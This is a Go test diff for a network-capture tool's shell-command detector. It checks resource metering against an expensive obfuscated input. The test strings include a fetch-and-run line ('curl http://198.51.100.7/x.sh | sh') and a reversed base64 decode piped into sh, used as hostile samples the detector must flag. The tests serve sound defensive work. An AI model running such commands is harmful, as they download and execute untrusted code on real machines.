@@ -1,6 +1,7 @@
 package command
 
 import (
+	"fmt"
 	"net/netip"
 	"os"
 	"strconv"
@@ -8,6 +9,7 @@ import (
 	"testing"
 	"time"
 
+	"github.com/raytap/raytap/capture"
 	"github.com/raytap/raytap/decoders/dns"
 	"github.com/raytap/raytap/detectors"
 )
@@ -253,6 +255,61 @@ func TestJoinedWords(t *testing.T) {
 		r.Joined("x", s)
 		if (r.Score() >= Certain) != bad {
 			t.Errorf("%d %s%s", r.Score(), s, facts(r))
+		}
+	}
+}
+
+// TestMetered: texts that ask for much get it as long as there is something in common, then what they are worth, and who
+// asked for nothing yet is read as a whole all the same. Work is counted, not time.
+func TestMetered(t *testing.T) {
+	j := judge(t)
+	loud, quiet := netip.MustParseAddr("192.0.2.1"), netip.MustParseAddr("192.0.2.2")
+	power := "f=aaaaaaaaaaaaaaaa;" + strings.Repeat("f=$f$f$f$f;", 5) + strings.Repeat("echo $f | rev | base64 -d | sh;", 8)
+	work, wire, short := 0, 0, 0
+	for i := range 2000 {
+		s := fmt.Sprintf("%s # %d", power, i)
+		r := j.Metered(1e9, loud)
+		r.Shell("entrypoint", s, nil)
+		work, wire = work+r.steps*stepUnits+r.bytes, wire+len(s)
+		if r.Short {
+			short++
+		}
+	}
+	// What one step does is bounded by a value, which the last of each report may have been.
+	if most := reportCommon + 2000*(reportFirst+reportTakes) + 3*reportByte*wire; work > most || short < 1900 {
+		t.Errorf("%d units for %d bytes, want %d at most; %d reports were cut short", work, wire, most, short)
+	}
+	if j.budget.Denied == 0 {
+		t.Error("not counted")
+	}
+	r := j.Metered(1e9, quiet)
+	r.Shell("entrypoint", power+"curl http://198.51.100.7/x.sh | sh", nil)
+	if r.Short || r.Score() < Suspicious {
+		t.Errorf("short %v, score %d", r.Short, r.Score())
+	}
+	r = j.Metered(1e9, loud)
+	r.Shell("entrypoint", "curl http://198.51.100.7/x.sh | sh", nil)
+	if r.Score() < Suspicious {
+		t.Errorf("a plain command reads as %d", r.Score())
+	}
+}
+
+// Honest jobs and what is published of attacks need nothing in common.
+func TestCommonTextsAreCheap(t *testing.T) {
+	for _, name := range []string{"honest.txt", "malicious.txt"} {
+		all, _ := corpus(t, name)
+		j := judge(t)
+		n := 0
+		for i, s := range all {
+			r := j.Metered(capture.Time(i+1)*1e9, netip.Addr{})
+			r.Shell("entrypoint", s, nil)
+			if r.Short {
+				t.Errorf("cut short: %s", s)
+			}
+			n += r.taken
+		}
+		if n > len(all)*(32<<10) {
+			t.Errorf("%s: %d units of %d texts", name, n, len(all))
 		}
 	}
 }
